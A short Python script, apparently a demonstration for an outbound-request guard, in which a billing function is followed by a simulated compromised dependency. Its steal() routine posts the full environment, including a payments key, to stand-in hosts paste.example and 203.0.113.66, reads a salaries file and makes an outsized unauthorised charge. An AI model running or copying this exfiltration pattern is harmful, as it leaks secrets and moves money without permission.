"""An ordinary billing function: it knows nothing of the guard. Halfway through, a bad dependency takes over."""

import json
import os
import urllib.error
import urllib.request

STOLEN_TO = "paste.example"
STOLEN_TO_ADDRESS = "203.0.113.66"


def say(text):
    print(f"function: {text}", flush=True)


def call(method, url, body=None, **headers):
    """Sends one request and says how it went."""
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(url, data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            answer = f"{response.status} {' '.join(response.read().decode().split())}"
    except urllib.error.HTTPError as refusal:
        answer = f"{refusal.code} {refusal.headers.get('sallyport-denied', '')}"
    except OSError as failure:
        answer = f"failed: {getattr(failure, 'reason', failure)}"
    say(f"{method} {url} -> {answer}")


def bill():
    key = os.environ["PAYMENTS_KEY"]
    say(f"I hold PAYMENTS_KEY={key}")
    call("GET", "https://files.example/reports/november.csv")
    call("POST", "https://api.payments.example/v1/charges", {"amount": 1200}, Authorization=f"Bearer {key}")


def steal():
    """What code that should not be there tries: to send the environment away, to read what is not its business, and to
    do once more what the function may do once."""
    key = os.environ["PAYMENTS_KEY"]
    loot = dict(os.environ)
    call("POST", f"https://{STOLEN_TO}/upload", loot)
    call("POST", f"https://{STOLEN_TO_ADDRESS}/upload", loot)
    call("GET", "https://files.example/salaries/november.csv")
    call("POST", "https://api.payments.example/v1/charges", {"amount": 990000}, Authorization=f"Bearer {key}")


bill()
steal()
